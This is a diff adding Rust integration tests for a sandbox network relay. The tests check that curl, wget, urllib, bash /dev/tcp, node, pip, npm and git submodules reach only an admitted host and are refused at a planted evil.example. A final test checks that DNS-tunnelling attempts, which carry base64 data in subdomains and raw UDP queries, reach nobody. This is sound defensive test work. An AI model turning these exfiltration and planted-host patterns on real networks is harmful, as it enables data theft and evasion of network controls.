@@ -1,0 +1,321 @@
+//! A cell and the relay together: real clients against servers on loopback, in which a second host is planted. The resolver
+//! is a double that counts (a real one would need the internet), and so is the person, who says no.
+
+use std::collections::HashMap;
+use std::io::{Read as _, Write as _};
+use std::net::{IpAddr, Ipv4Addr, TcpListener, TcpStream};
+use std::path::{Path, PathBuf};
+use std::sync::{Arc, Mutex};
+
+use guarda_core::gate::ApprovedHost;
+use guarda_core::network::traffic::HostTraffic;
+use guarda_core::network::{Destination, DomainName, HostRule, HostRules, Ports, Protocol, Why};
+use guarda_sandbox::relay::{Later, Outside, Refused, Relay};
+use guarda_sandbox::{Network, SandboxLevel, Spec};
+
+use crate::jail::{Done, Jail, block_on, program, run_in, sandbox};
+
+#[derive(Default)]
+struct World {
+    asked: Mutex<Vec<String>>,
+    looked_up: Mutex<Vec<String>>,
+}
+
+impl Outside for World {
+    fn ask<'a>(&'a self, to: &'a Destination) -> Later<'a, Result<ApprovedHost, Refused>> {
+        self.asked.lock().unwrap().push(to.host.to_string());
+        Box::pin(async { Err(Refused::Answered("nobody said yes".to_owned())) })
+    }
+
+    fn look_up<'a>(&'a self, name: &'a DomainName) -> Later<'a, std::io::Result<Vec<IpAddr>>> {
+        self.looked_up.lock().unwrap().push(name.to_string());
+        Box::pin(async { Ok(vec![Ipv4Addr::LOCALHOST.into()]) })
+    }
+}
+
+/// Serves a folder's files; every connection is counted by the `Host` that it named.
+struct Server {
+    port: u16,
+    hosts: Arc<Mutex<HashMap<String, usize>>>,
+}
+
+impl Server {
+    fn of(folder: &Path) -> Self {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let hosts = Arc::new(Mutex::new(HashMap::new()));
+        let (folder, seen) = (folder.to_owned(), Arc::clone(&hosts));
+        std::thread::spawn(move || {
+            while let Ok((stream, _)) = listener.accept() {
+                let (folder, seen) = (folder.clone(), Arc::clone(&seen));
+                std::thread::spawn(move || serve(stream, &folder, &seen));
+            }
+        });
+        Self { port, hosts }
+    }
+
+    fn named(&self, host: &str) -> usize {
+        self.hosts.lock().unwrap().get(&format!("{host}:{}", self.port)).copied().unwrap_or(0)
+    }
+}
+
+fn serve(mut stream: TcpStream, folder: &Path, seen: &Mutex<HashMap<String, usize>>) {
+    let mut got = Vec::new();
+    let mut piece = [0; 4096];
+    while !got.windows(4).any(|end| end == b"\r\n\r\n") {
+        match stream.read(&mut piece) {
+            Ok(length @ 1..) => got.extend(&piece[..length]),
+            _ => return,
+        }
+    }
+    let head = String::from_utf8_lossy(&got);
+    let host =
+        head.lines().find_map(|line| line.to_ascii_lowercase().strip_prefix("host: ").map(str::to_owned));
+    *seen.lock().unwrap().entry(host.unwrap_or_default()).or_insert(0) += 1;
+    let path = head.split(' ').nth(1).unwrap_or_default();
+    let path = folder.join(path.split('?').next().unwrap_or_default().trim_start_matches('/'));
+    let path = if path.is_dir() { path.join("index.html") } else { path };
+    let kind = match path.extension().and_then(|end| end.to_str()) {
+        Some("json") => "application/json",
+        Some("html") => "text/html",
+        _ => "application/octet-stream",
+    };
+    let (status, body) = match std::fs::read(&path) {
+        Ok(body) => ("200 OK", body),
+        Err(_) => ("404 Not Found", Vec::new()),
+    };
+    let length = body.len();
+    let head = format!(
+        "HTTP/1.1 {status}\r\nContent-Type: {kind}\r\nContent-Length: {length}\r\nConnection: close\r\n\r\n"
+    );
+    let _ = stream.write_all(&[head.into_bytes(), body].concat());
+}
+
+fn rule(host: &str, port: u16) -> HostRule {
+    HostRule {
+        host: host.parse().unwrap(),
+        ports: Ports::Of(vec![port]),
+        protocol: Protocol::Any,
+        why: Why::Word { word: host.to_owned(), start: 0 },
+        private: true,
+    }
+}
+
+struct Came {
+    done: Done,
+    traffic: Vec<HostTraffic>,
+    world: Arc<World>,
+}
+
+impl Came {
+    fn of(&self, host: &str) -> &HostTraffic {
+        let found = self.traffic.iter().find(|traffic| traffic.host.to_string() == host);
+        found.unwrap_or_else(|| panic!("{host} is not among {:#?}\n{:#?}", self.traffic, self.done))
+    }
+
+    fn looked_up(&self, host: &str) -> bool {
+        self.world.looked_up.lock().unwrap().iter().any(|name| name == host)
+    }
+}
+
+/// Runs a script with `good.example` on a port admitted.
+fn run(jail: &Jail, script: &str, port: u16) -> Came {
+    let world = Arc::new(World::default());
+    let port_text = port.to_string();
+    let start = jail.script(script, &[("port", &port_text), ("GIT_TERMINAL_PROMPT", "0")]);
+    let spec = Spec { network: Network::Hosts, ..jail.spec(SandboxLevel::Confined) };
+    let rules: HostRules = [rule("good.example", port)].into_iter().collect();
+    block_on(async {
+        let mut cell = sandbox().open(&spec).await.unwrap();
+        let outside: Arc<dyn Outside> = Arc::clone(&world) as _;
+        let relay = Relay::begin(cell.take_network().unwrap(), rules, outside).unwrap();
+        let done = run_in(&mut cell, start).await;
+        Came { done, traffic: relay.traffic(), world: Arc::clone(&world) }
+    })
+}
+
+/// Writes a folder that is served, and gives its path.
+fn folder(jail: &Jail, files: &[(&str, &[u8])]) -> PathBuf {
+    let folder = jail.outside("www");
+    for (name, content) in files {
+        let path = folder.join(name);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(path, content).unwrap();
+    }
+    folder
+}
+
+#[test]
+fn each_client_reaches_the_admitted_host_and_no_other() {
+    let direct = "env -u http_proxy -u https_proxy -u HTTP_PROXY -u HTTPS_PROXY";
+    let clients = [
+        ("curl -sf http://HOST:$port/file".to_owned(), "curl by the proxy"),
+        (format!("{direct} curl -sf http://HOST:$port/file"), "curl by the redirect"),
+        (format!("{direct} wget -t1 -qO- http://HOST:$port/file"), "wget by the redirect"),
+        ("wget -t1 -qO- http://HOST:$port/file".to_owned(), "wget by the proxy"),
+        ("/usr/bin/python3 -c 'import sys, urllib.request; print(urllib.request.urlopen(sys.argv[1]).read().decode())' http://HOST:$port/file".to_owned(), "urllib by the proxy"),
+        ("exec 3<>/dev/tcp/HOST/$port; printf 'GET /file HTTP/1.1\\r\\nHost: HOST:%s\\r\\n\\r\\n' $port >&3; cat <&3 | grep planted".to_owned(), "bash by the redirect"),
+        ("node -e 'fetch(process.argv[1]).then(r => { if (!r.ok) process.exit(3); return r.text() }).then(t => console.log(t))' http://HOST:$port/file".to_owned(), "node by the redirect"),
+    ];
+    let jail = Jail::new();
+    let server = Server::of(&folder(&jail, &[("file", b"planted")]));
+    for (line, client) in &clients {
+        let good = run(&jail, &line.replace("HOST", "good.example"), server.port);
+        assert!(good.done.succeeds().out.contains("planted"), "{client}: {:#?}", good.done);
+        assert!(good.of("good.example").received > 0, "{client}");
+        let evil = run(&jail, &line.replace("HOST", "evil.example"), server.port);
+        assert!(!evil.done.fails().out.contains("planted"), "{client}: {:#?}", evil.done);
+        assert!(evil.of("evil.example").refused > 0 && !evil.looked_up("evil.example"), "{client}");
+        assert_eq!(*evil.world.asked.lock().unwrap(), ["evil.example"], "{client}");
+    }
+    assert_eq!((server.named("good.example") > 0, server.named("evil.example")), (true, 0));
+}
+
+#[test]
+fn pip_installs_from_its_index_and_not_from_a_planted_host() {
+    let jail = Jail::new();
+    let wheel = jail.outside("foo-1.0-py3-none-any.whl");
+    let made = program("/usr/bin/python3")
+        .args(["-c", "import sys, zipfile
+z = zipfile.ZipFile(sys.argv[1], 'w')
+for name, text in (('foo.py', 'x = 1'), ('foo-1.0.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: foo\\nVersion: 1.0\\n'), ('foo-1.0.dist-info/WHEEL', 'Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n'), ('foo-1.0.dist-info/RECORD', '')):
+    z.writestr(name, text)"])
+        .arg(&wheel)
+        .status()
+        .unwrap();
+    assert!(made.success());
+    let wheel = std::fs::read(wheel).unwrap();
+    let server = Server::of(&folder(&jail, &[("files/foo-1.0-py3-none-any.whl", &wheel)]));
+    let page = |host: &str| {
+        format!(
+            "<a href='http://{host}:{}/files/foo-1.0-py3-none-any.whl'>foo-1.0-py3-none-any.whl</a>",
+            server.port
+        )
+    };
+    let script = "/usr/bin/python3 -m pip install --no-cache-dir --disable-pip-version-check --retries 0 --target \"$work/lib\" --index-url http://good.example:$port/simple/ --trusted-host good.example --trusted-host evil.example foo && cat \"$work/lib/foo.py\"";
+    folder(&jail, &[("simple/foo/index.html", page("evil.example").as_bytes())]);
+    let planted = run(&jail, script, server.port);
+    planted.done.fails();
+    assert!(planted.of("evil.example").refused > 0 && !planted.looked_up("evil.example"));
+    assert_eq!(planted.of("evil.example").reasons, ["nobody said yes".to_owned()].into());
+    assert_eq!(server.named("evil.example"), 0);
+    folder(&jail, &[("simple/foo/index.html", page("good.example").as_bytes())]);
+    let good = run(&jail, script, server.port);
+    assert!(good.done.succeeds().out.contains("x = 1"), "{:#?}", good.done);
+    assert_eq!(*good.world.asked.lock().unwrap(), [""; 0]);
+}
+
+#[test]
+fn npm_installs_from_its_registry_and_not_from_a_planted_host() {
+    let jail = Jail::new();
+    let package = jail.outside("package");
+    std::fs::create_dir(&package).unwrap();
+    std::fs::write(package.join("package.json"), "{\"name\":\"foo\",\"version\":\"1.0.0\"}").unwrap();
+    let tar = program("/usr/bin/tar")
+        .args(["czf", "foo.tgz", "package"])
+        .current_dir(jail.outside(""))
+        .status()
+        .unwrap();
+    assert!(tar.success());
+    let tar = std::fs::read(jail.outside("foo.tgz")).unwrap();
+    let server = Server::of(&folder(&jail, &[("files/foo.tgz", &tar)]));
+    let described = |host: &str| {
+        let version = format!(
+            "{{\"name\":\"foo\",\"version\":\"1.0.0\",\"dist\":{{\"tarball\":\"http://{host}:{}/files/foo.tgz\"}}}}",
+            server.port
+        );
+        format!(
+            "{{\"name\":\"foo\",\"dist-tags\":{{\"latest\":\"1.0.0\"}},\"versions\":{{\"1.0.0\":{version}}}}}"
+        )
+    };
+    let script = "rm -rf node_modules package-lock.json; echo '{}' > package.json; npm install --cache \"$TMPDIR/c\" --fetch-retries 0 --no-audit --no-fund --no-update-notifier --replace-registry-host never --registry http://good.example:$port/ foo && ls node_modules";
+    folder(&jail, &[("foo", described("evil.example").as_bytes())]);
+    let planted = run(&jail, script, server.port);
+    planted.done.fails();
+    assert!(planted.of("evil.example").refused > 0 && !planted.looked_up("evil.example"));
+    assert_eq!(server.named("evil.example"), 0);
+    folder(&jail, &[("foo", described("good.example").as_bytes())]);
+    let good = run(&jail, script, server.port);
+    assert!(good.done.succeeds().out.contains("foo"), "{:#?}", good.done);
+}
+
+#[test]
+fn git_clones_the_named_host_and_not_the_submodule_of_another() {
+    let jail = Jail::new();
+    let www = jail.outside("www");
+    std::fs::create_dir_all(&www).unwrap();
+    let server = Server::of(&www);
+    let script = format!(
+        "set -e; export GIT_CONFIG_GLOBAL=/dev/null GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b
+         git init -q sub; cd sub; echo inner > inner; git add .; git commit -qm 1; cd ..
+         git init -q main; cd main; echo text > text; git add .; git -c protocol.file.allow=always submodule --quiet add \"$PWD/../sub\" sub
+         git config -f .gitmodules submodule.sub.url http://evil.example:{}/sub.git; git add .; git commit -qm 1; cd ..
+         for one in sub main; do git clone -q --bare $one www/$one.git; git -C www/$one.git update-server-info; done",
+        server.port
+    );
+    let made = program("/bin/bash")
+        .args(["-c", &script])
+        .current_dir(jail.outside(""))
+        .env("HOME", jail.outside(""))
+        .status()
+        .unwrap();
+    assert!(made.success());
+    let clone = "export GIT_CONFIG_GLOBAL=/dev/null; rm -rf c; git clone -q OPTIONS http://good.example:$port/main.git c; code=$?; cat c/text; exit $code";
+    let good = run(&jail, &clone.replace("OPTIONS", ""), server.port);
+    assert_eq!(good.done.succeeds().out, "text\n");
+    for by in ["", "unset http_proxy HTTP_PROXY; "] {
+        let planted =
+            run(&jail, &(by.to_owned() + &clone.replace("OPTIONS", "--recurse-submodules")), server.port);
+        assert_eq!(planted.done.fails().out, "text\n");
+        assert!(planted.of("evil.example").refused > 0 && !planted.looked_up("evil.example"));
+        assert_eq!(planted.of("evil.example").ports, [server.port].into());
+    }
+    assert_eq!(server.named("evil.example"), 0);
+}
+
+#[test]
+fn data_in_names_and_datagrams_reach_nobody() {
+    let jail = Jail::new();
+    let server = Server::of(&folder(&jail, &[]));
+    let script = "getent hosts c2VjcmV0.evil.example; getent hosts $(printf 'x%.0s' $(seq 63)).evil.example
+        /usr/bin/python3 -c '
+import socket
+s = socket.socket(type=socket.SOCK_DGRAM)
+for to in (\"8.8.8.8\", \"1.1.1.1\"):
+    s.sendto(b\"\\x00\\x01\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06c2VjcmV0\\x04evil\\x07example\\x00\\x00\\x10\\x00\\x01\", (to, 53))
+    s.settimeout(5); print(len(s.recv(512)))
+t = socket.create_connection((\"8.8.8.8\", 53)); t.close()
+try: socket.create_connection((\"8.8.8.8\", 853), 5).recv(1)
+except OSError as error: print(type(error).__name__)
+'";
+    let came = run(&jail, script, server.port);
+    assert!(came.done.succeeds().out.contains("198.18."), "{:#?}", came.done);
+    assert!(came.done.out.ends_with("ConnectionResetError\n"), "{:#?}", came.done);
+    assert!(came.world.looked_up.lock().unwrap().is_empty());
+    assert_eq!(*came.world.asked.lock().unwrap(), ["8.8.8.8"]);
+}
+
+#[test]
+fn two_thousand_connections_stand_at_once() {
+    let jail = Jail::new();
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    // Each is answered only when all have come: the kernel's queue is shorter, so they are taken at once.
+    std::thread::spawn(move || {
+        let mut all: Vec<TcpStream> = (0..2000).map(|_| listener.accept().unwrap().0).collect();
+        for stream in &mut all {
+            stream.write_all(b"x").unwrap();
+        }
+    });
+    let limit = rustix::process::getrlimit(rustix::process::Resource::Nofile);
+    let most = rustix::process::Rlimit { current: limit.maximum, ..limit };
+    rustix::process::setrlimit(rustix::process::Resource::Nofile, most).unwrap();
+    let script = "/usr/bin/python3 -c '
+import os, resource, socket
+resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
+all = [socket.create_connection((\"good.example\", int(os.environ[\"port\"]))) for _ in range(2000)]
+print(sum(len(one.recv(1)) for one in all))'";
+    let came = run(&jail, script, port);
+    assert_eq!(came.done.succeeds().out, "2000\n", "{:#?}", came.done);
+    assert_eq!(came.of("good.example").connections, 2000);
+}
